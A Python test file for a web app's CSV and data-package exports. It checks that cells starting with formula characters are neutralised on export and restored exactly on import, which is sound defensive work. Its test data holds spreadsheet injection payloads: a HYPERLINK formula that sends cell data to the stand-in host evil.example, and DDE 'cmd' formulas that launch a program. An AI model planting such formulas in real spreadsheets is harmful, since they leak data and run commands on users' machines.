"""Spreadsheet formula injection (#14, finding 6): no CSV the site writes starts a cell with
``=``, ``+``, ``-``, ``@``, tab or CR (unless it is a plain number); the data package's
neutralised cells come back exactly on import."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from sqlalchemy import select

from app.domain import management
from app.extensions import db
from app.hygiene import FORMULA_START, neutralise_cell, restore_cell
from app.models import SearchSignal, Service
from tests.management.test_dashboard import csv_lines

EVIL_SEARCH = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
EVIL_DESCRIPTION = "=cmd|' /C calc'!A0 — het dorpshuis, voor iedereen uit het dorp en de buurt."
EVIL_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
NUMBER = __import__("re").compile(r"[+-]?\d+(?:[.,]\d+)?")

# Every route that answers CSV; a new one must be added here (and walked below).
CSV_ROUTES = {"/staff/cijfers/<key>.csv": management.DASHBOARD,
              "/staff/cijfers/kaart/<key>.csv": management.MAP}


def _dangerous(cell: str) -> bool:
    return cell[:1] in FORMULA_START and not NUMBER.fullmatch(cell)


def test_neutralise_and_restore_are_exact_inverses():
    for value in ["=1+1", "+31 544 123456", "-", "@x", "\tx", "\rx", "'=x", "''=x", "'x",
                  "gewoon", "", "-3", "+31", "'-3", "- lijst", "=", "'"]:
        cell = neutralise_cell(value)
        assert not _dangerous(cell), value
        assert restore_cell(cell) == value, value
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("-3") == "-3"  # a plain number is no formula
    assert neutralise_cell(7) == 7


def test_every_csv_route_neutralises_formula_cells(staff_login, app):
    found = {str(rule) for rule in app.url_map.iter_rules() if str(rule).endswith(".csv")}
    assert found == set(CSV_ROUTES), "a CSV route is not covered by this test"
    for query in (EVIL_SEARCH, "+31612345678 bellen", "-min", "@home", "\tx"):
        db.session.add(SearchSignal(at=datetime(2025, 5, 1, 10, tzinfo=UTC), query=query,
                                    result_count=0))
    db.session.commit()
    admin = staff_login("admin")
    seen = []
    for route, tables in CSV_ROUTES.items():
        for key in tables:
            lines = csv_lines(admin, route.replace("<key>", key))
            for line in lines:
                for cell in line:
                    assert not _dangerous(cell), (route, key, cell)
                    seen.append(cell)
    assert "'" + EVIL_SEARCH.lower() in seen
    assert "'-min" in seen and "'@home" in seen


def test_datapackage_neutralises_and_round_trips(app, tmp_path):
    runner = app.test_cli_runner()
    service = db.session.scalars(select(Service).where(Service.publication == "published")
                                 .order_by(Service.name)).first()
    service.description = EVIL_DESCRIPTION
    service.organization.name = EVIL_NAME
    db.session.commit()
    service_id = service.id
    first = tmp_path / "eerste"
    result = runner.invoke(args=["export", "hsds", "--format", "datapackage", str(first)])
    assert result.exit_code == 0, result.output
    cells = []
    for path in first.glob("*.csv"):
        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in line:
                assert not _dangerous(cell), (path.name, cell)
                cells.append(cell)
    assert "'" + EVIL_DESCRIPTION in cells and "'" + EVIL_NAME in cells

    db.session.remove()
    db.drop_all()
    db.create_all()
    result = runner.invoke(args=["import", "hsds", str(first / "datapackage.json")])
    assert result.exit_code == 0 and "concept" not in result.output, result.output
    back = db.session.get(Service, service_id)
    assert back.description == EVIL_DESCRIPTION  # the apostrophe is gone again
    assert back.organization.name == EVIL_NAME
    second = tmp_path / "tweede"
    runner.invoke(args=["export", "hsds", "--format", "datapackage", str(second)])
    assert {p.name: p.read_bytes() for p in second.iterdir()} == \
        {p.name: p.read_bytes() for p in first.iterdir()}
